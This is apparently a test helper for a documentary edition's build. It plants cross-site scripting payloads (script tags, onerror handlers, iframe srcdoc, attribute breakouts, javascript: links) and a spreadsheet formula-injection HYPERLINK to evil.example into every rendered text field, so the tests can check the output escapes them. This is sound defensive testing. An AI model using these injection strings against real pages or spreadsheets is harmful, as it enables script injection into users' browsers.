"""A hostile source list: every rendered text field of every record carries an attack.

The fields are not listed by hand: `plant` walks the record dataclasses of tools/model/records.py
through the schema (tools/model/schema.field_specs), so a text field added to a record is
attacked without touching this file. A field that cannot carry an attack says why in EXEMPT (an
id, a reference, a date, or text the checker proves against the chapter); a new field that is
neither planted nor exempt fails `test_every_text_field_is_planted_or_exempt`.

Each planted value starts with a spreadsheet formula and holds a script, an image with an error
handler, an iframe with srcdoc, an attribute breakout, a javascript: link, a Markdown link whose
address would become an event handler if it were made inside a tag, and an attribute list,
all marked with the field's name, so the tests can prove that each field reached the output.
"""

from __future__ import annotations

import dataclasses
import typing
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from tools import checker as check
from tools.checker import write
from tools.model import records
from tools.model.records import SECTIONS, Participant, Person, Quotation, SourceRef, Status
from tools.model.schema import field_specs

Field = tuple[type, str]  # (record class, field name)


def payload(marker: str) -> str:
    """One straight quotation mark only (the attribute breakout): two would quote words, which the
    checker refuses in the source list's prose (yaml-quote) before anything is built."""
    return (
        f"=HYPERLINK(http://evil.example/?{marker}) <script>alert(1)//{marker}</script> "
        f"<img src=x onerror=alert(1)//{marker}> <iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe> "
        f'" onmouseover=alert(1) x= [y](onmouseover=alert(1)//) [click](javascript:alert(1)//{marker}) '
        "{ onclick=alert(1) } *em*"
    )


# An address keeps its own host (the source policy checks hosts) and gains a breakout.
URL_SUFFIX = '/"><script>alert("url")</script>?q=(1)'
HOSTILE_URL = "https://evil.example" + URL_SUFFIX
MARK = "HOSTILE-"  # each payload's marker is MARK + "Record.field"

EXEMPT: dict[Field, str] = {
    **{(cls, "id"): "an id: the schema allows lower-case words and hyphens only" for cls in SECTIONS.values()},
    (records.Work, "kind"): "one of the kinds of source",
    (records.Work, "domains"): "domain names, checked against the domain pattern",
    (records.Work, "year"): "a date: an int, a real date or YYYY-MM",
    (records.Trial, "prosecutor"): "a reference to a person id",
    (records.Trial, "report"): "a reference to a work id",
    (Participant, "person"): "a reference to a person id",
    (Person, "born"): "a date",
    (Person, "died"): "a date",
    (Person, "mention"): "only 'implied'",
    (Person, "variants"): "spellings of a name: the checker refuses anything else (yaml-value)",
    (Quotation, "text"): "the chapter's words, checked word by word against the page",
    (Quotation, "speaker"): "a reference to a person id",
    (Quotation, "trial"): "a reference to a trial id",
    (Quotation, "date"): "a date",
    (Quotation, "status"): "one of the four statuses",
    (records.Note, "paragraph"): "a paragraph id of the chapter",
    (records.Note, "term"): "words the checker finds in the paragraph",
    (records.Meeting, "person"): "a reference to a person id",
    (records.Meeting, "trial"): "a reference to a trial id",
    (records.Meeting, "claimed_date"): "a date",
    (SourceRef, "work"): "a reference to a work id",
    (SourceRef, "kind"): "one of the kinds of source",
    (Person, "born_calendar"): "one of the calendars",
    (Person, "died_calendar"): "one of the calendars",
    (records.Wording, "work"): "a reference to a work id",
    (records.DeniedDomain, "domain"): "a domain name, checked against the domain pattern",
    (records.MirrorSite, "domain"): "a domain name, checked against the domain pattern",
}
# Planted, but shown on no page: the checker alone reads them.
NOT_RENDERED: dict[Field, str] = {(records.MirrorSite, "copies"): "the policy's note on a copy site"}
# Planted only where the record has the other field too (the schema requires it).
ONLY_WITH: dict[Field, str] = {(Quotation, "literal"): "russian"}
# Planted with the field's name kept in front, because the chapter must still be matched by it.
KEEP_ORIGINAL: dict[Field, str] = {
    (Person, "name"): "a spelling: the chapter's words must stay known names",
}


def text_fields(record: type) -> Iterator[tuple[str, str, bool, bool]]:
    """(attribute, YAML key, is a list of text, is an address) of each text field of `record`."""
    for spec in field_specs(record):
        for option in spec.types:
            if option is str:
                yield spec.name, spec.key, False, spec.url
                break
            if typing.get_origin(option) is tuple and typing.get_args(option)[0] is str:
                yield spec.name, spec.key, True, spec.url
                break


def nested(record: type) -> Iterator[tuple[str, type]]:
    """(YAML key, record class) of each nested record, or list of them, in `record`."""
    for spec in field_specs(record):
        for option in spec.types:
            item = typing.get_args(option)[0] if typing.get_origin(option) is tuple else option
            if isinstance(item, type) and dataclasses.is_dataclass(item):
                yield spec.key, item


@dataclass
class Planted:
    fields: set[Field] = dataclasses.field(default_factory=set)


def plant(record: type, raw: dict[str, Any], planted: Planted) -> None:
    for name, key, many, url in text_fields(record):
        where = (record, name)
        if where in EXEMPT or (where in ONLY_WITH and not raw.get(ONLY_WITH[where])):
            continue
        marker = f"{MARK}{record.__name__}.{name}"
        if url:
            if not raw.get(key):
                continue  # an address is attacked where there is one (the policy says where one may be)
            value: Any = str(raw[key]).rstrip("/") + URL_SUFFIX
        elif where in KEEP_ORIGINAL:
            original = raw.get(key)
            value = [*original, payload(marker)] if many else f"{payload(marker)} {original}"
        else:
            value = [payload(marker)] if many else payload(marker)
        raw[key] = value
        planted.fields.add(where)
    for key, item in nested(record):
        value = raw.get(key)
        for entry in value if isinstance(value, list) else [value] if isinstance(value, dict) else []:
            plant(item, entry, planted)


def hostile_source_list(data: dict[str, Any]) -> Planted:
    """Plant an attack in every text field of every record of `data` (the parsed YAML)."""
    planted = Planted()
    for section, record in SECTIONS.items():
        for raw in data.get(section) or []:
            plant(record, raw, planted)
    for raw in (data.get("statuses") or {}).values():
        plant(Status, raw, planted)
    if isinstance(data.get("policy"), dict):
        plant(records.Policy, data["policy"], planted)
    # A source with an address but no work, so the address is also shown as text.
    first_person = data["people"][0]
    first_person["sources"].append(
        {"url": HOSTILE_URL, "kind": "reference", "supports": payload(f"{MARK}SourceRef.supports")}
    )
    return planted


def make_hostile(root: Path) -> Planted:
    """Turn the project at `root` hostile: plant the attacks, then regenerate the footnotes (as
    `./edition check --write` would) so the checker accepts the copy and the build runs."""
    path = root / "data" / "sources.yml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    planted = hostile_source_list(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")
    result = check.check(root)
    assert result.sources is not None and not result.unusable, [str(f) for f in result.findings]
    for page in result.pages:
        (root / "docs" / page.name).write_text(write.generated_page(page, result.sources), encoding="utf-8")
    errors = [str(f) for f in check.check(root).errors]
    assert errors == [], errors
    return planted


def all_records() -> list[type]:
    """Every record class reachable from the source list's sections (and the status legend)."""
    found: list[type] = []
    todo = [*SECTIONS.values(), Status, records.Policy]
    while todo:
        record = todo.pop(0)
        if record not in found:
            found.append(record)
            todo += [item for _, item in nested(record)]
    return found
